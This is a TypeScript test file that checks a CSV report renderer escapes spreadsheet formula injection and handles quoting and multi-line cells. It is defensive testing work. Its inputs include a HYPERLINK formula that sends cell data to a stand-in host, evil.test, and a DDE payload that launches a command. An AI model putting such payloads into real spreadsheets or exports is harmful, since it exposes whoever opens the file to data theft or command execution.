import { describe, expect, test } from 'vitest'
import { renderCsv } from '../../reporters/csv.ts'
import { readCsv, toldBy } from '../report-readers.ts'
import { sample } from './report.ts'

/** The sample report with this text wherever a table has words of a droplet's. */
const titled = (title: string): string =>
  renderCsv({
    ...sample,
    findings: sample.findings.map((finding) => ({ ...finding, title })),
  })

describe('a spreadsheet', () => {
  test.each([
    '=HYPERLINK("http://evil.test?"&A1,"open")',
    '+cmd|/c calc!A1',
    '-2+3',
    '@SUM(1,2)',
    '\t=1',
    '\r=1',
    ' =1',
    '\uFF1D1',
  ])('is given %j as text', (text) => {
    const { rows } = readCsv(titled(text))
    expect(rows).toHaveLength(sample.findings.length)
    for (const [, , , title = ''] of rows) expect(title).toMatch(/^(?:'|\\)/)
  })

  test.each(['a,b', 'say "so"', 'two\nlines', 'two\r\nlines', '",",\r\n"', ''])(
    'reads %j in one cell of as many lines as there are findings',
    (text) => {
      const { rows } = readCsv(titled(text))
      expect(rows.map((row) => row.length)).toEqual(sample.findings.map(() => 8))
      expect(rows.map(([id]) => id)).toEqual(sample.findings.map(({ id }) => id))
    },
  )

  test('counts what the report counts', () => {
    expect(readCsv(renderCsv(sample)).told).toEqual(toldBy(sample))
    const trouble = { kind: 'harness', expected: 'a', came: '=b', where: 'c', todo: 'd' } as const
    const broken = { ...sample, trouble }
    expect(readCsv(renderCsv(broken)).told).toEqual(toldBy(broken))
  })
})
